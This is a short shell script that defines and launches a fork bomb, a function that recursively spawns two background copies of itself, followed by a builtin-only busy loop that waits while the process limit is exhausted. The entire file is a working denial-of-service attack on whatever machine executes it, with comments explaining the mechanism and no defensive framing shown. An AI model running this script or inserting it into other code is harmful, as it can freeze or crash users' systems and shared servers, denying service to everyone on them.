#!/bin/sh
# the classic: every call starts two more, in the background
bomb() { bomb | bomb & }
bomb
# give it time to hit the process limit, using only shell builtins (fork fails now)
i=0
while [ $i -lt 100000 ]; do i=$((i + 1)); done
